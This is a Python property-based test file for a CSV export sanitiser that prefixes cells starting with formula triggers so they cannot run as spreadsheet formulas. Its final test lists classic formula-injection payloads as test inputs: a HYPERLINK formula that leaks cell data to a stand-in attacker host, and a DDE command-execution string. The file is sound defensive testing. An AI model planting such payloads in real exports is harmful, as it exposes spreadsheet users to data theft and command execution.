"""Export cells never start a formula, and nothing else about them changes."""

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from opennrm.core.exports import FORMULA_TRIGGERS, safe_cell, safe_row

cells = st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none(), st.booleans())


@given(st.text())
def test_no_text_cell_starts_a_formula(text: str) -> None:
    assert not str(safe_cell(text)).startswith(FORMULA_TRIGGERS)


@given(st.text())
def test_text_is_only_ever_prefixed_never_lost(text: str) -> None:
    result = safe_cell(text)
    assert result in (text, "'" + text)
    assert (result != text) == text.startswith(FORMULA_TRIGGERS)


@given(st.sampled_from(FORMULA_TRIGGERS), st.text())
def test_every_trigger_is_neutralised(trigger: str, rest: str) -> None:
    assert safe_cell(trigger + rest) == "'" + trigger + rest


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_numbers_and_other_values_are_untouched(value) -> None:
    assert safe_cell(value) == value


@given(st.lists(cells, max_size=20))
def test_rows_keep_their_length_and_order(row: list) -> None:
    result = safe_row(row)
    assert len(result) == len(row)
    assert result == [safe_cell(value) for value in row]


@given(st.lists(st.text(), min_size=1, max_size=8))
def test_a_csv_written_from_safe_rows_reads_back_with_no_formula(row: list[str]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(row))
    read = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert all(not cell.startswith(FORMULA_TRIGGERS) for cell in read)


def test_classic_payloads() -> None:
    assert safe_cell('=HYPERLINK("http://evil.example/?"&A1,"Click")').startswith("'=")
    assert safe_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert safe_cell("@SUM(1+1)") == "'@SUM(1+1)"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("Ana Hoxha") == "Ana Hoxha"
    assert safe_cell(-5) == -5
